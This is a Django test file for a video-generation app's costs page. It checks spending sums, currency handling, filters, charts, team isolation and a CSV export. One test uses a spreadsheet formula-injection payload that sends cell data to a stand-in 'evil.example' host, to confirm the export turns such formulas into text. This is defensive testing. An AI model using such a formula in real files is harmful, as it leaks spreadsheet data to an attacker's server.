"""The costs: what was spent and held, added up by day, model, person and prompt, for one's own team alone."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from unittest import mock

from django.test import SimpleTestCase, TestCase
from django.utils import timezone

from generations.models import Failure, Generation, LedgerEntry, Prompt, Status
from generations.models.spending import spending, spending_in_all
from generations.views.costs import harmless
from tests.factories import alice, bob, carol, make_gateway, make_generation
from tests.pages import Element, read
from tests.test_access import HTMX

NOVEMBER = datetime(2026, 11, 10, 12, tzinfo=UTC)


def made(status: str = Status.COMPLETED, *, quote: str = "0.40", on: datetime | None = None, **fields) -> Generation:
    return make_generation(status, quote=quote, created_at=on or timezone.now(), **fields)


class CostsCase(TestCase):
    def setUp(self):
        make_gateway()
        self.client.force_login(alice())

    def page(self, **query) -> Element:
        return read(self.client.get("/costs/", query))

    def table(self, **query) -> dict[str, list[str]]:
        """The rows of the table: what stands first, and the cells after it."""
        rows = self.page(**query).all("tr")[1:]
        return {row.one("a").text: [cell.text for cell in row.all("td")] for row in rows}

    def sums(self, **query) -> dict[str, str]:
        page = self.page(**query).one("dl")
        return {row.one("dt").text: row.one("dd").text for row in page.children}


class AddingUpTests(CostsCase):
    def test_by_day_the_newest_first(self):
        made(on=NOVEMBER)
        made(on=NOVEMBER + timedelta(hours=11, minutes=59))
        made(Status.IN_PROGRESS, on=NOVEMBER + timedelta(hours=12))
        table = self.table(since="2026-11-01", until="2026-11-30")
        self.assertEqual(list(table.items()), [
            ("2026-11-11", ["0.00 USD", "0.40 USD", "1", ""]),
            ("2026-11-10", ["0.80 USD", "", "2", ""]),
        ])  # fmt: skip

    def test_by_model_person_and_prompt_the_most_expensive_first(self):
        made(quote="0.10", prompt="A cat")
        made(quote="5", model="veo/veo3.1", user=bob(), prompt="A dog")
        made(quote="0.20", prompt="A cat")
        self.assertEqual(
            self.table(by="model"), {"Veo 3.1": ["5.00 USD", "", "1", ""], "Wan 2.6": ["0.30 USD", "", "2", ""]}
        )
        self.assertEqual(list(self.table(by="person")), ["bob", "alice"])
        self.assertEqual(self.table(by="prompt")["A cat"], ["0.30 USD", "", "2", ""])

    def test_what_is_held_spent_released_and_unknown(self):
        made(Status.UNKNOWN)
        made(Status.FAILED)  # the gateway's policy is not known: it stays held
        made(Status.FAILED, failure=Failure.REJECTED)
        made(Status.CANCELLED)
        made()
        self.assertEqual(self.sums(), {"Spent": "0.40 USD", "Held": "0.80 USD", "Videos asked for": "5"})

    def test_what_has_no_price_is_counted_and_never_zero(self):
        for status, failure in ((Status.COMPLETED, ""), (Status.UNKNOWN, ""), (Status.FAILED, Failure.UPSTREAM_FAILED)):
            made(status, failure=failure, quote="")
        for status, failure in ((Status.QUEUED, ""), (Status.CANCELLED, ""), (Status.FAILED, Failure.NOT_SENT)):
            made(status, failure=failure, quote="")  # was never at a gateway, so it costs nothing
        made(quote="", quote_source="sandbox")
        self.assertEqual(self.sums(), {"Spent": "nothing", "Videos asked for": "7", "Price unknown, in no sum": "3"})
        [cells] = self.table().values()
        self.assertEqual(cells, ["", "", "7", "3"])

    def test_currencies_are_not_added_to_one_another(self):
        made(quote="0.40")
        euros = made(quote="")
        LedgerEntry.objects.create(generation=euros, kind="settle", spent=Decimal("2"), currency="EUR", actor="x")
        page = self.page()
        self.assertEqual([dd.text for dd in page.one("dl").all("dd")][:2], ["2.00 EUR", "0.40 USD"])
        self.assertEqual(len(page.of_class("chart")), 2)
        [line] = spending(Generation.objects.all(), "day")
        self.assertEqual({name: sums.spent for name, sums in line.sums.items()}, {"EUR": 2, "USD": Decimal("0.4")})
        self.assertEqual((line.videos, spending_in_all(Generation.objects.all()).videos), (2, 2))

    def test_what_was_paid_in_another_currency_than_quoted_has_a_share_of_each_and_is_one_video(self):
        dear, paid = made(quote="0.80", model="veo/veo3.1"), made(quote="0.40")
        paid.ledger.create(kind="adjust", spent=Decimal("1"), currency="EUR", actor="x")
        dear.ledger.create(kind="adjust", spent=Decimal("4"), currency="EUR", actor="x")
        page = self.page(by="model")
        self.assertEqual([dd.text for dd in page.one("dl").all("dd")], ["5.00 EUR", "1.20 USD", "2"])
        [veo, wan] = page.all("tr")[1:]
        widths = [[int(rect["width"]) for rect in share.all("rect")] for share in wan.of_class("share")]
        self.assertEqual(widths, [[250, 0], [500, 0]])
        self.assertEqual([title.text for title in veo.all("title")], ["4.00 EUR spent", "0.80 USD spent"])
        self.assertEqual([cell.text for cell in wan.all("td")], ["1.00 EUR 0.40 USD", "", "1", ""])
        text = b"".join(self.client.get("/costs/export/").streaming_content).decode()
        rows = [(row["quoted"], row["currency"], row["spent"]) for row in csv.DictReader(io.StringIO(text, newline=""))]
        self.assertEqual(rows[2:], [("0.400000", "USD", "0.400000"), ("", "EUR", "1.000000")])

    def test_beyond_the_most_expensive_lines_none_of_those_loses_what_it_has_besides(self):
        for number in range(3):
            made(quote=str(3 - number), prompt=f"number {number}")
            made(quote="", prompt=f"number {number}")
        with mock.patch("generations.models.spending.MOST_LINES", 2):
            lines = spending(Generation.objects.all(), "prompt")
            self.assertEqual([(line.videos, line.unpriced) for line in lines], [(2, 1), (2, 1)])
            self.assertIn("The most expensive 2", self.page(by="prompt").text)

    def test_several_entries_of_one_video_count_it_once(self):
        row = made(Status.COMPLETED)
        self.assertEqual(row.ledger.count(), 2)
        self.assertEqual(self.sums()["Videos asked for"], "1")

    def test_what_was_deleted_was_paid_for_all_the_same(self):
        made(deleted_at=timezone.now())
        self.assertEqual(self.sums()["Spent"], "0.40 USD")


class FilterTests(CostsCase):
    def test_the_last_thirty_days_unless_others_are_asked_for(self):
        made(on=timezone.now() - timedelta(days=31))
        made(on=timezone.now() - timedelta(days=28))
        self.assertEqual(self.sums()["Videos asked for"], "1")
        today = timezone.now().date()
        since = self.page().one("input", name="since")["value"]
        self.assertEqual(since, f"{today - timedelta(days=29)}")

    def test_days_model_and_person(self):
        made(on=NOVEMBER)
        made(on=NOVEMBER, user=bob(), model="veo/veo3.1")
        november = {"since": "2026-11-10", "until": "2026-11-10"}
        for query, expected in (
            ({}, "2"),
            ({"model": "veo/veo3.1"}, "1"),
            ({"person": "alice"}, "1"),
            ({"person": "alice", "model": "veo/veo3.1"}, "0"),
        ):
            self.assertEqual(self.sums(**november, **query)["Videos asked for"], expected)

    def test_nonsense_is_as_if_it_was_not_given(self):
        made()
        for query in (
            {"since": "yesterday", "until": "2026-99-99", "model": "nobody", "person": "nobody", "by": "moon"},
            {"since": "", "until": ""},
            {"by": "day\0"},
        ):
            with self.subTest(query):
                self.assertEqual(self.sums(**query)["Spent"], "0.40 USD")

    def test_days_the_wrong_way_round_the_oldest_and_the_last_day_there_is(self):
        made(on=NOVEMBER)
        self.assertEqual(self.sums(since="2026-11-30", until="2026-11-01")["Videos asked for"], "1")
        for query in ({"until": "0001-01-01"}, {"until": "9999-12-31"}, {"since": "0001-01-01", "until": "9999-12-31"}):
            with self.subTest(query):
                self.assertEqual(self.client.get("/costs/", query).status_code, 200)

    def test_never_more_than_a_year_at_once(self):
        page = self.page(since="2020-01-01", until="2026-11-30")
        self.assertEqual(page.one("input", name="since")["value"], "2025-11-30")

    def test_each_line_leads_on_with_the_filters_kept(self):
        made(on=NOVEMBER, prompt="A cat")
        query = {"since": "2026-11-01", "until": "2026-11-30", "person": "alice"}
        day = self.page(**query).all("tr")[1].one("a")["href"]
        self.assertEqual(day, "?since=2026-11-10&until=2026-11-10&person=alice&by=model")
        model = self.page(**query, by="model").all("tr")[1].one("a")["href"]
        self.assertEqual(model, "?since=2026-11-01&until=2026-11-30&person=alice&model=wan%2Fwan2.6")
        prompt = self.page(**query, by="prompt").all("tr")[1].one("a")["href"]
        self.assertEqual(prompt, f"/?prompt_id={Prompt.objects.get().pk}")

    def test_htmx_gets_the_rows_alone(self):
        page = read(self.client.get("/costs/", headers=HTMX))
        self.assertEqual([element["id"] for element in page.children], ["rows"])

    def test_it_takes_the_same_statements_for_any_number_of_videos(self):
        for _ in range(2):
            for number in range(4):
                made(prompt=f"number {number}", quote="0.40" if number % 2 else "")
            for grouping, count in (("day", 6), ("model", 6), ("person", 6), ("prompt", 7)):
                with self.subTest(grouping), self.assertNumQueries(count):
                    self.client.get("/costs/", {"by": grouping})


class ChartTests(CostsCase):
    def test_a_day_each_to_scale_from_the_ledger(self):
        made(quote="1", on=NOVEMBER)
        made(Status.IN_PROGRESS, quote="3", on=NOVEMBER)
        made(quote="2", on=NOVEMBER + timedelta(days=2))
        [drawing] = self.page(since="2026-11-09", until="2026-11-12").of_class("chart")
        self.assertEqual(drawing.one("svg")["viewbox"], "0 0 40 1000")
        heights = [[int(rect["height"]) for rect in bar.all("rect")] for bar in drawing.all("g")]
        self.assertEqual(heights, [[0, 0], [250, 750], [0, 0], [500, 0]])
        self.assertEqual([int(rect["y"]) for rect in drawing.all("g")[1].all("rect")], [750, 0])
        self.assertEqual(drawing.all("title")[1].text, "2026-11-10: 1.00 USD spent, 3.00 USD held")
        self.assertIn("highest: 4.00 USD", drawing.one("figcaption").text)

    def test_nothing_spent_draws_nothing(self):
        made(quote="0")
        [drawing] = self.page().of_class("chart")
        self.assertEqual({rect["height"] for rect in drawing.all("rect")}, {"0"})

    def test_no_style_is_written_into_the_page(self):
        made()
        self.assertFalse([element for element in self.page().all() if "style" in element])


class TeamTests(CostsCase):
    def test_another_team_s_money_is_not_there_at_all(self):
        made(user=carol(), prompt="A secret")
        for grouping in ("day", "model", "person", "prompt"):
            page = self.page(by=grouping)
            self.assertNotIn("secret", page.text)
            self.assertEqual(page.all("table"), [])
        self.assertNotIn(
            "carol", [option["value"] for option in self.page().one("select", name="person").all("option")]
        )
        self.assertEqual(self.sums(person="carol")["Videos asked for"], "0")
        self.assertNotIn("secret", b"".join(self.client.get("/costs/export/").streaming_content).decode())

    def test_colleagues_see_each_other_s(self):
        made(user=bob())
        self.assertEqual(self.sums()["Spent"], "0.40 USD")


class ExportTests(CostsCase):
    def rows(self, **query) -> list[dict[str, str]]:
        response = self.client.get("/costs/export/", query)
        self.assertTrue(response.streaming)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        text = b"".join(response.streaming_content).decode()
        self.assertTrue(text.startswith("\ufeff"))  # without it Excel takes it for another encoding
        text = text.removeprefix("\ufeff")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    def test_a_row_each_with_exact_sums(self):
        row = made(Status.COMPLETED, on=NOVEMBER, prompt='Say "hello", twice\nand again')
        made(Status.IN_PROGRESS, on=NOVEMBER, quote="")
        first, second = self.rows(since="2026-11-01", until="2026-11-30")
        self.assertEqual(
            first,
            {
                "asked_at": "2026-11-10T12:00:00+00:00",
                "id": str(row.uuid),
                "person": "alice",
                "model": "wan/wan2.6",
                "gateway": "fake",
                "status": "completed",
                "failure": "",
                "prompt": 'Say "hello", twice\nand again',
                "quoted": "0.400000",
                "currency": "USD",
                "held": "0.000000",
                "spent": "0.400000",
                "price_source": "operator, a test's price",
            },
        )
        self.assertEqual((second["quoted"], second["currency"], second["held"], second["spent"]), ("", "", "", ""))

    def test_it_has_the_filters_of_the_page(self):
        made(on=NOVEMBER)
        made(on=NOVEMBER, user=bob())
        page = self.page(since="2026-11-01", until="2026-11-30", person="bob", by="model")
        [link] = [link["href"] for link in page.all("a") if "/export/" in link.get("href")]
        text = b"".join(self.client.get(link).streaming_content).decode("utf-8-sig")
        rows = csv.DictReader(io.StringIO(text, newline=""))
        self.assertEqual([row["person"] for row in rows], ["bob"])

    def test_its_name_says_which_days(self):
        response = self.client.get("/costs/export/", {"since": "2026-11-01", "until": "2026-11-30"})
        self.assertEqual(response["Content-Disposition"], 'attachment; filename="costs_2026-11-01_2026-11-30.csv"')

    def test_it_takes_few_statements_for_any_number(self):
        for number in range(20):
            made(prompt=f"number {number}")
        with self.assertNumQueries(5):  # session, person, people of the form, the rows, and what the ledger says
            self.rows()

    def test_no_cell_is_a_formula(self):
        prompt = '=HYPERLINK("https://evil.example/?"&A1,"click")'
        made(prompt=prompt)
        self.assertEqual(self.rows()[0]["prompt"], f"'{prompt}")


class HarmlessTests(SimpleTestCase):
    def test_what_a_spreadsheet_would_run_is_made_text(self):
        for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"):
            self.assertEqual(harmless(text), f"'{text}")
        for text in ("", "a=1", "1-1", "fox", " fox"):
            self.assertEqual(harmless(text), text)


class PeriodTests(CostsCase):
    def test_the_last_day_is_whole(self):
        made(on=datetime(2026, 11, 10, 23, 59, 59, 999_999, tzinfo=UTC))
        made(on=datetime(2026, 11, 11, tzinfo=UTC))
        self.assertEqual(self.sums(since="2026-11-10", until="2026-11-10")["Videos asked for"], "1")
        self.assertEqual(date(2026, 11, 10), spending(Generation.objects.all(), "day")[1].key)

    def test_the_sandbox_alone_is_nothing_spent(self):
        made(quote="", quote_source="sandbox")
        self.assertEqual(self.sums(), {"Spent": "nothing", "Videos asked for": "1"})
